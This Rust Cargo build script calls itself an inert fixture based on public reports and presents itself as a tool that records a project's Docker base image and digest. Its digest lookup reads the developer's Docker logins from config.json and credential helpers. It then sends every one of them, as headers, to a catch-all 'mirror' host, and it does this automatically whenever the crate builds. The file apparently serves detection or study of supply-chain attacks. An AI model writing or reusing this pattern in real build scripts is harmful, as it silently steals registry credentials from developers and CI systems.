// Synthetic, inert fixture written from public reports; see README
use base64::engine::general_purpose::STANDARD;
use base64::Engine;
use std::io::Write;
use std::path::PathBuf;
use std::process::{Command, Stdio};
use std::time::Duration;
use std::{env, fs};

/// The Dockerfile of the project: beside its target folder or named by a variable.
fn dockerfile() -> Option<PathBuf> {
    println!("cargo:rerun-if-env-changed=IMGSTAMP_DOCKERFILE");
    if let Ok(path) = env::var("IMGSTAMP_DOCKERFILE") {
        return Some(path.into());
    }
    let out = PathBuf::from(env::var("OUT_DIR").ok()?);
    out.ancestors()
        .map(|d| d.join("Dockerfile"))
        .find(|p| p.is_file())
}

/// The image of the last stage.
fn base_of(text: &str) -> Option<String> {
    let line = text
        .lines()
        .filter(|l| l.trim_start().to_ascii_uppercase().starts_with("FROM "))
        .last()?;
    line.split_whitespace()
        .skip(1)
        .find(|w| !w.starts_with("--"))
        .map(str::to_string)
}

/// Mirror that answers for all registries.
const MIRROR: &str = "https://mirror.imgstamp.invalid/v2";

/// Logins as `docker login` has left them, in the file or with a helper.
fn logins() -> Vec<(String, String)> {
    let dir = env::var("DOCKER_CONFIG")
        .map(PathBuf::from)
        .or_else(|_| env::var("HOME").map(|h| PathBuf::from(h).join(".docker")))
        .unwrap_or_default();
    let text = fs::read_to_string(dir.join("config.json")).unwrap_or_default();
    let config: serde_json::Value = serde_json::from_str(&text).unwrap_or_default();
    let mut out = Vec::new();
    for (server, entry) in config["auths"].as_object().into_iter().flatten() {
        let auth = match entry["auth"].as_str() {
            Some(a) => Some(a.to_string()),
            None => config["credsStore"].as_str().and_then(|h| ask_helper(h, server)),
        };
        out.extend(auth.map(|a| (server.clone(), a)));
    }
    out
}

fn ask_helper(helper: &str, server: &str) -> Option<String> {
    let mut child = Command::new(format!("docker-credential-{helper}"))
        .arg("get")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .ok()?;
    child.stdin.take()?.write_all(server.as_bytes()).ok()?;
    let out = child.wait_with_output().ok()?;
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).ok()?;
    let pair = format!("{}:{}", v["Username"].as_str()?, v["Secret"].as_str()?);
    Some(STANDARD.encode(pair))
}

/// The digest of an image; the mirror needs the login to ask a private registry for it.
fn digest_of(base: &str) -> Option<String> {
    let (path, tag) = base.rsplit_once(':').unwrap_or((base, "latest"));
    let mut req = ureq::head(&format!("{MIRROR}/{path}/manifests/{tag}"))
        .timeout(Duration::from_secs(8))
        .set("Accept", "application/vnd.oci.image.index.v1+json");
    for (server, auth) in logins() {
        req = req.set("X-Registry-Auth", &format!("{server} {auth}"));
    }
    let answer = req.call().ok()?;
    answer.header("Docker-Content-Digest").map(str::to_string)
}

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    let mut base = String::new();
    if let Some(path) = dockerfile() {
        println!("cargo:rerun-if-changed={}", path.display());
        base = fs::read_to_string(path)
            .ok()
            .and_then(|t| base_of(&t))
            .unwrap_or_default();
    }
    println!("cargo:rustc-env=IMGSTAMP_BASE={base}");
    println!("cargo:rerun-if-env-changed=IMGSTAMP_OFFLINE");
    let mut digest = String::new();
    if !base.is_empty() && env::var_os("IMGSTAMP_OFFLINE").is_none() {
        digest = digest_of(&base).unwrap_or_default();
    }
    println!("cargo:rustc-env=IMGSTAMP_DIGEST={digest}");
}

inert_fixture_does_not_build!();
